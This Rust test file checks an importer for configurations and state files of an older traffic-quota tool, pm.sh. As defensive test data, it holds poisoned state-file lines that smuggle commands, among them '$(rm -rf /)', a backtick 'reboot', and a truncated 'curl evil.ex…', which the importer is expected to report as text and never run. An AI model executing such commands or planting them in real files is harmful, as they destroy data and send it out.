//! What pm.sh has left, by the versions of its configuration. Expected figures are worked out from
//! the files by hand.
#![allow(
    clippy::panic,
    clippy::unwrap_used,
    reason = "what cannot be read fails its test"
)]

mod support;

use pm_core::calendar::Timestamp;
use pm_core::config::{Config, Mode, Push, Via};
use pm_core::ledger::Usage;
use pm_core::request::Context as Judged;
use pm_legacy::{Imported, ImportedService, Overuse, Refusal, Setting, Tool, Trouble};
use support::{Host, troubles};
use time::macros::date;

/// 2026-03-01 21:20 in UTC.
const MARCH: i64 = 1_772_400_000;

fn import(fixture: &str) -> Imported {
    Host::new(Tool::PmSh, fixture, MARCH, "UTC").read().unwrap()
}

fn service<'a>(imported: &'a Imported, ports: &str) -> &'a ImportedService {
    &imported.services[&ports.parse().unwrap()]
}

fn used(incoming: u64, outgoing: u64) -> Usage {
    Usage { incoming, outgoing }
}

#[test]
fn version_0_has_its_figures_in_the_configuration() {
    let imported = import("pm_sh_v0");
    assert_eq!(imported.version, "0");
    let found = service(&imported, "30000");
    // In: 110 - 10 on top. Out: the counter was made anew and shows 5.
    assert_eq!(found.books.usage, used(3_000_000_100, 4_000_000_005));
    assert_eq!(found.books.shown, 7_000_000_105);
    assert_eq!(found.service.quota.unwrap().size().to_string(), "10GiB");
    assert_eq!(found.service.reset.unwrap().to_string(), "1");
    assert_eq!(
        found.service.dynqos.unwrap().to_string(),
        "100Mbps/5/5Mbps/60"
    );
    assert_eq!(found.punished_until, None);
    // It was reset on February 2, and not since.
    assert_eq!(found.books.due, Some(date!(2026 - 03 - 01)));
    assert_eq!(
        troubles(&imported, "30000"),
        [Trouble::ResetDue(date!(2026 - 03 - 01))]
    );

    let found = service(&imported, "443");
    assert_eq!(found.books.usage, used(5_368_709_120, 536_871_012));
    assert_eq!(found.service.mode, Mode::Out);
    assert_eq!(found.books.shown, 536_871_012);
    assert_eq!(found.service.reset.unwrap().to_string(), "never");
    assert_eq!(found.service.limit.unwrap().to_string(), "20Mbps");
    assert_eq!(found.books.began, None);
    assert_eq!(imported.doubts.len(), 1);
    assert!(imported.messages.notify.is_default() && imported.messages.push.is_none());
}

/// Guards against fault 6 of the old tools: an empty group, or one called `null`, is no group.
#[test]
fn version_1_has_groups_whose_first_member_counts() {
    let imported = import("pm_sh_v1");
    let pool = &imported.groups[&"vip1".parse().unwrap()];
    assert_eq!(pool.group.quota.unwrap().size().to_string(), "5GiB");
    assert_eq!(pool.group.mode, Mode::Both);
    assert_eq!(pool.group.reset.unwrap().to_string(), "15");
    assert_eq!(pool.books.usage, used(1_100, 2_200));
    // The tool billed the second member for what it sent only.
    assert_eq!(pool.books.shown, 300 + 2_000);
    assert_eq!(pool.books.began, Some(Timestamp::from_unix(1_771_000_001)));
    let first = "20000".parse().unwrap();
    let settings = vec![Setting::Quota, Setting::Mode];
    assert_eq!(
        troubles(&imported, "group vip1"),
        [
            Trouble::MembersDiffer { first, settings },
            Trouble::ResetDue(date!(2026 - 02 - 15))
        ]
    );
    for (ports, note) in [("20002", "12345"), ("20003", "no group")] {
        let found = service(&imported, ports);
        assert_eq!(
            (found.service.group.as_ref(), found.service.note.as_str()),
            (None, note)
        );
    }
    let notify = &imported.messages.notify;
    assert_eq!(notify.thresholds.percents(), [50, 90]);
    let channel = &notify.channels[&"telegram".parse().unwrap()];
    assert_eq!(channel.report.as_ref().unwrap().to_string(), "every 12h");
    let Via::Telegram(telegram) = &channel.via else {
        panic!("{:?}", channel.via)
    };
    assert_eq!(
        telegram.api_base.as_ref().unwrap().as_str(),
        "https://tg.example.org/bot"
    );
    assert_eq!(telegram.token.secret().expose(), "123456:AA-example");
}

#[test]
fn version_2_has_limits_on_addresses_and_a_punishment_that_is_running() {
    let mut host = Host::new(Tool::PmSh, "pm_sh_v2", 1_772_002_000, "UTC");
    let imported = host.read().unwrap();
    let found = service(&imported, "10086");
    assert_eq!(found.books.usage, used(1_000_100, 2_000_000));
    assert_eq!(
        found.punished_until,
        Some(Timestamp::from_unix(1_772_003_000))
    );
    // February has no day 31.
    assert_eq!(found.books.due, Some(date!(2026 - 02 - 28)));
    let (most, blocks) = (3, true);
    assert_eq!(
        troubles(&imported, "10086"),
        [Trouble::AddressLimit { most, blocks }]
    );
    let push = imported.messages.push.unwrap();
    assert_eq!(push.url.as_str(), "https://w.example.workers.dev/api/push");
    assert_eq!((push.enabled, push.node_id), (true, None));
    host.now = Timestamp::from_unix(1_772_003_000);
    let imported = host.read().unwrap();
    assert_eq!(service(&imported, "10086").punished_until, None);
}

#[test]
fn version_3_has_its_figures_in_state_files_and_old_ones_are_ignored() {
    let imported = import("pm_sh_v3");
    assert_eq!(imported.version, "3");
    let found = service(&imported, "10086");
    assert_eq!(found.books.usage, used(4_509_715_760, 3_865_470_643));
    assert_eq!(found.books.began, Some(Timestamp::from_unix(1_772_323_200)));
    assert_eq!(found.books.due, Some(date!(2026 - 04 - 01)));
    assert_eq!(found.service.note.as_str(), "Snell 老王");
    let (most, blocks) = (3, false);
    assert_eq!(
        troubles(&imported, "10086"),
        [Trouble::AddressLimit { most, blocks }]
    );

    // Over its quota, and blocked for it: nothing to ask.
    let pool = &imported.groups[&"vip1".parse().unwrap()];
    assert_eq!(pool.books.usage, used(1_000, 6_442_450_944));
    assert!(pool.was_cut_off);
    assert_eq!(imported.doubts.len(), 1);
    assert_eq!(imported.questions().count(), 0);
    // Its punishment has not ended, but its rule is off.
    assert_eq!(service(&imported, "20000").punished_until, None);
}

/// The last release never blocked a port that is in no group.
#[test]
fn who_was_let_over_his_quota_is_asked_about_and_can_be_forgiven() {
    let mut host = Host::new(Tool::PmSh, "pm_sh_v3", MARCH, "UTC");
    host.kernel.table.as_mut().unwrap().blocked.clear();
    let asked = host.read().unwrap();
    let (billed, quota) = (6_442_450_944, 5 << 30);
    assert_eq!(
        troubles(&asked, "group vip1"),
        [Trouble::Overused { billed, quota }]
    );
    assert_eq!(asked.questions().count(), 1);
    for (answer, billed) in [(Overuse::Block, 6_442_450_944), (Overuse::Forgive, 0)] {
        let mut settled = asked.clone();
        settled.settle(answer);
        assert_eq!(settled.questions().count(), 0);
        let pool = &settled.groups[&"vip1".parse().unwrap()];
        assert_eq!(pool.books.billed(pool.group.contract()), billed);
        assert_eq!(pool.books.usage, used(1_000, 6_442_450_944));
    }
}

#[test]
fn a_block_that_the_tool_would_lift_is_said() {
    let mut host = Host::new(Tool::PmSh, "pm_sh_v3", MARCH, "UTC");
    host.kernel.table.as_mut().unwrap().blocked.insert(10_086);
    let imported = host.read().unwrap();
    assert!(troubles(&imported, "10086").contains(&Trouble::BlockedWithinQuota));
    assert!(!service(&imported, "10086").service.blocked);
}

/// Guards against fault 6 of the old tools: every text is only text.
#[test]
fn odd_notes_are_text() {
    let imported = import("pm_sh_odd");
    for (ports, note) in [
        ("1001", "\"quoted\" `$(reboot)` \\ 'single'"),
        ("1002", "tab\tand\nnewline"),
        ("1003", "端口 🚀 日本語"),
        ("1004", "10086"),
    ] {
        assert_eq!(service(&imported, ports).service.note.as_str(), note);
        assert_eq!(troubles(&imported, ports), []);
    }
    assert_eq!(service(&imported, "1005").service.note.as_str(), "[31mred");
    assert_eq!(troubles(&imported, "1005"), [Trouble::NoteCleaned(2)]);
    assert_eq!(troubles(&imported, "1006"), [Trouble::NoteShortened(250)]);
}

#[test]
fn odd_settings_are_read_as_the_tool_reads_them_or_said() {
    let imported = import("pm_sh_odd");
    let found = service(&imported, "1007");
    assert_eq!(found.service.quota.unwrap().size().to_string(), "7GiB");
    assert_eq!(found.service.limit.unwrap().to_string(), "50Mbps");
    assert_eq!(found.service.reset.unwrap().to_string(), "5");
    assert_eq!(troubles(&imported, "1007"), []);
    assert_eq!(troubles(&imported, "1008"), [Trouble::NoQuota]);
    let unusable = |setting, value: &str| {
        let value = value.to_owned();
        Trouble::Unusable { setting, value }
    };
    assert_eq!(
        troubles(&imported, "1009"),
        [
            Trouble::NoQuota,
            unusable(Setting::Mode, "both"),
            unusable(Setting::Reset, "32"),
            unusable(Setting::Limit, "-3"),
        ]
    );
    assert_eq!(service(&imported, "1010").service.dynqos, None);
    assert!(matches!(
        troubles(&imported, "1010")[..],
        [Trouble::Unusable {
            setting: Setting::DynQos,
            ..
        }]
    ));
    assert_eq!(
        service(&imported, "1014")
            .service
            .quota
            .unwrap()
            .size()
            .to_string(),
        "1.5GiB"
    );
}

/// Guards against fault 5 of the old tools: state files executed as shell.
#[test]
fn missing_and_poisoned_state_files_are_said() {
    let imported = import("pm_sh_odd");
    assert_eq!(service(&imported, "1011").books.usage, used(11, 22));
    assert_eq!(troubles(&imported, "1011"), [Trouble::StateMissing]);
    assert_eq!(service(&imported, "1012").books.usage, used(0, 0));
    assert_eq!(troubles(&imported, "1012"), [Trouble::NothingCounted]);
    assert_eq!(service(&imported, "1013").books.usage, used(0, 2_048));
    assert_eq!(service(&imported, "1013").books.began, None);
    let line = |line, text: &str| {
        let text = text.to_owned();
        Trouble::StateLine { line, text }
    };
    assert_eq!(
        troubles(&imported, "1013"),
        [
            line(1, "s_acc_in=$(rm -rf /)"),
            line(4, "s_last_k_out=`reboot`"),
            line(5, "s_last_reset_ts=1772323200; curl evil.ex…"),
            Trouble::StateLacks("s_acc_in"),
            Trouble::StateLacks("s_last_k_out"),
        ]
    );
}

#[test]
fn what_is_no_port_is_left_out_and_hides_none() {
    let imported = import("pm_sh_odd");
    for key in ["0", "70000", "80-90", "abc"] {
        assert_eq!(
            troubles(&imported, &format!("entry {key}")),
            [Trouble::NotPorts],
            "{key}"
        );
    }
    let kept = "1001".parse().unwrap();
    assert_eq!(
        troubles(&imported, "entry 01001"),
        [Trouble::Overlaps(kept)]
    );
    assert_eq!(service(&imported, "1001").books.usage, used(1_001, 2_002));
    assert_eq!(troubles(&imported, "entry 2000"), [Trouble::NoSettings]);
    assert_eq!(imported.services.len(), 19);
}

#[test]
fn groups_that_pm_cannot_call_so_get_names_of_their_own() {
    let imported = import("pm_sh_odd");
    let names: Vec<_> = imported.groups.keys().map(|name| name.as_str()).collect();
    assert_eq!(names, ["77", "ab", "ab 2", "group 3004"]);
    let from = "a,b".to_owned();
    let (first, settings) = ("3001".parse().unwrap(), vec![Setting::Quota, Setting::Mode]);
    assert_eq!(
        troubles(&imported, "group ab 2"),
        [
            Trouble::GroupRenamed { from },
            Trouble::MembersDiffer { first, settings }
        ]
    );
    let from = "NONE".to_owned();
    assert_eq!(
        troubles(&imported, "group group 3004"),
        [Trouble::GroupRenamed { from }]
    );
    assert_eq!(
        imported.groups[&"77".parse().unwrap()].books.usage,
        used(3_005, 6_010)
    );
}

#[test]
fn channels_that_cannot_work_are_said_without_their_secrets() {
    let imported = import("pm_sh_odd");
    assert!(imported.messages.notify.channels.is_empty() && imported.messages.push.is_none());
    assert_eq!(imported.messages.notify.thresholds.percents(), [50, 80]);
    let unusable = |channel, field| Trouble::ChannelUnusable { channel, field };
    let threshold = |value: &str| {
        let (setting, value) = (Setting::Thresholds, value.to_owned());
        Trouble::Unusable { setting, value }
    };
    assert_eq!(
        troubles(&imported, ""),
        [
            threshold("0"),
            threshold("soon"),
            unusable("telegram", "bot_token"),
            unusable("push", "worker_url"),
            unusable("push", "secret"),
        ]
    );
}

#[test]
fn channels_of_pms_own_stay_beside_those_of_the_tool() {
    let imported = import("pm_sh_v3");
    let none = Config::default();
    let once = imported.applied(&none, &Judged::default()).unwrap();
    assert_eq!(once.notify, imported.messages.notify);
    assert_eq!(once.push, imported.messages.push);

    let before = Config {
        notify: once.notify.clone(),
        push: once.push.clone().map(|push| Push {
            enabled: false,
            ..push
        }),
        ..Config::default()
    };
    let after = imported.applied(&before, &Judged::default()).unwrap();
    let names: Vec<_> = after
        .notify
        .channels
        .keys()
        .map(|name| name.as_str())
        .collect();
    assert_eq!(names, ["telegram", "telegram-2"]);
    assert_eq!(after.push, before.push);
}

/// Guards against fault 4 of the old tools: a torn file replaced by an empty one.
#[test]
fn a_torn_configuration_is_refused_with_its_place() {
    let refused = Host::new(Tool::PmSh, "pm_sh_torn", MARCH, "UTC")
        .read()
        .unwrap_err();
    assert_eq!(
        refused.to_string(),
        "config.json, line 3, column 30: EOF while parsing a string"
    );
}

#[test]
fn what_is_not_pm_shs_is_refused() {
    let read = |config: &str| {
        let mut host = Host::empty(Tool::PmSh, MARCH, "UTC");
        host.files.insert("config.json", config);
        host.read().unwrap_err().to_string()
    };
    assert_eq!(
        read(r#"{"schema":1,"services":{}}"#),
        "config.json is not a configuration of pm.sh: it is pm's own"
    );
    assert_eq!(
        read(r#"{"ports":[]}"#),
        "config.json is not a configuration of pm.sh: it has no ports"
    );
    assert_eq!(
        read(r#"{"config_version":4,"ports":{}}"#),
        "config.json has version 4, and this pm knows up to 3: update pm"
    );
    let missing = Host::empty(Tool::PmSh, MARCH, "UTC").read();
    assert_eq!(missing, Err(Refusal::Missing("config.json".to_owned())));
}

#[test]
fn what_a_counter_shows_that_nobody_has_looked_at_is_said() {
    let mut files = pm_legacy::Files::default();
    let config = r#"{"config_version": 3, "ports": {"20000": {"quota_gb": 5}}}"#;
    files.insert("config.json", config);
    let mut kernel = pm_legacy::Kernel::default();
    let counter = |bytes| pm_legacy::Counter {
        bytes,
        ..pm_legacy::Counter::default()
    };
    let table = kernel.table.get_or_insert_default();
    let shown = [("cnt_in_20000", 6_000_000_000), ("cnt_out_20000", 1)];
    for (name, bytes) in shown {
        table.counters.insert(name.to_owned(), counter(bytes));
    }
    let zone = pm_core::calendar::Zone::utc();
    let context = pm_legacy::Context {
        now: Timestamp::from_unix(1_772_000_000),
        zone: &zone,
        accounting: None,
    };
    let imported = pm_legacy::read(Tool::PmSh, &files, &kernel, &context).unwrap();
    let said = troubles(&imported, "20000");
    assert!(
        said.contains(&Trouble::CounterLeftOut(6_000_000_001)),
        "{said:?}"
    );
    assert_eq!(imported.origins[0].key, "20000");
}
